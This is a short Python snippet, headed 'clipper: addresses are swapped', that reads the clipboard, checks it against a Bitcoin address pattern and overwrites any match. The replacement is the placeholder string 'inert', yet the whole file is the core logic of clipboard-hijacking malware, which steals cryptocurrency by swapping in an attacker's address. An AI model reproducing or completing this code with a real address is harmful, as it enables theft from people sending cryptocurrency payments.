# clipper: addresses are swapped
import re

import pyperclip

WALLET = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
if WALLET.match(pyperclip.paste()):
    pyperclip.copy("inert")
